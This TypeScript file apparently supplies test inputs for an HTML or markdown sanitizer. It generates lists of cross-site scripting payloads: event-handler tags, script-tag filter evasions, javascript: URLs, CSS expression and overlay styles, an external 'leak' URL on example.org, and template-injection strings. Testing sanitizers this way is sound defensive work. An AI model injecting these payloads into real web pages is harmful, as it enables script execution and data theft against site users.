/** Elements and event handlers that run code by themselves or when touched. */
export function elementsThatRun(): string[] {
	const handlers = [
		...[
			'img src=x onerror',
			'img src=x:x onerror',
			'video src=x onerror',
			'audio src=x onerror',
			'body onload'
		],
		...[
			'input autofocus onfocus',
			'select autofocus onfocus',
			'textarea autofocus onfocus',
			'details open ontoggle'
		],
		...[
			'iframe onload',
			'object onerror',
			'embed src=x onload',
			'link rel=stylesheet href=x onerror',
			'marquee onstart'
		],
		...[
			'video autoplay onloadstart',
			'style onload',
			'script src=x onerror',
			'div style=animation-name:x onanimationstart'
		],
		...[
			'div popover id=p onbeforetoggle',
			'a href=# onclick',
			'p onpointerenter',
			'button autofocus onfocus',
			'keygen autofocus onfocus'
		],
		...[
			'frameset onload',
			'div contenteditable autofocus onfocus',
			'audio autoplay oncanplay',
			'b onmouseover',
			'form onformdata'
		]
	];
	const quoted = (value: string) => [value, `"${value}"`, `'${value}'`, `\`${value}\``];
	return [
		'<script>pwned()</script>',
		'<SCRIPT>pwned()</SCRIPT>',
		'<scr<script>ipt>pwned()</scr</script>ipt>',
		'<script/x>pwned()</script>',
		'<script\n>pwned()</script\n>',
		'<script src=data:text/javascript,pwned()></script>',
		'<script type=module>pwned()</script>',
		'<script>/*\n*/pwned()</script>',
		'<<script>pwned();//<</script>',
		'<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
		'<iframe src="javascript:parent.pwned()"></iframe>',
		'<object data="javascript:pwned()"></object>',
		'<embed src="javascript:pwned()">',
		'<base href="javascript:/pwned()//">',
		'<meta http-equiv=refresh content="0;url=javascript:pwned()">',
		'<form action="javascript:pwned()"><input type=submit autofocus></form>',
		'<form><button formaction="javascript:pwned()">x</button></form>',
		'<isindex type=image src=1 onerror=pwned()>',
		'<template><img src=x onerror=pwned()></template>',
		'<portal src="javascript:pwned()"></portal>',
		...handlers.flatMap((handler) => quoted('pwned()').map((value) => `<${handler}=${value}>`)),
		...handlers
			.slice(0, 10)
			.flatMap((handler) => [
				`<${handler.replaceAll(' ', '/')}=pwned()>`,
				`<${handler.replaceAll(' ', '\t')}=pwned()//`,
				`<${handler.toUpperCase()}=&#112;wned()>`,
				`<${handler} = pwned&#40;&#41;>`
			])
	];
}

/** Styles that run code, load, or cover the page. */
export function css(): string[] {
	const rules = [
		...[
			'background:url(javascript:pwned())',
			'behavior:url(#x)',
			'-moz-binding:url(//example.org/x.xml#x)',
			'width:expression(pwned())'
		],
		...[
			'@import "javascript:pwned()"',
			'position:fixed;inset:0;z-index:9999',
			'background:url("//example.org/leak")',
			'x:e\\xpression(pwned())'
		]
	];
	return rules.flatMap((rule) => [
		`<div style="${rule}">x</div>`,
		`<style>*{${rule}}</style>`,
		`<p style='${rule}'>`,
		`**<b style=${rule}>**`
	]);
}

/** What template engines and string contexts would evaluate. */
export function templates(): string[] {
	return [
		...[
			'{{pwned()}}',
			'${pwned()}',
			'#{pwned()}',
			'<%= pwned() %>',
			'{@html "<img src=x onerror=pwned()>"}',
			'{pwned()}',
			'{#if pwned()}{/if}'
		],
		...[
			'{{constructor.constructor("pwned()")()}}',
			'{{$on.constructor("pwned()")()}}',
			'[[pwned()]]',
			'{%raw%}pwned(){%endraw%}',
			'*{pwned()}'
		],
		...[
			'<div ng-app>{{pwned()}}</div>',
			'<div v-html="pwned()">',
			'<div x-init="pwned()">',
			'<div data-bind="html: pwned()">',
			'<x-y :is="script">'
		],
		...[
			'`${pwned()}`',
			"';pwned()//",
			'";pwned()//',
			'</script><script>pwned()</script>',
			'\\u003cscript>pwned()\\u003c/script>',
			'%3Cscript%3Epwned()%3C/script%3E'
		]
	];
}
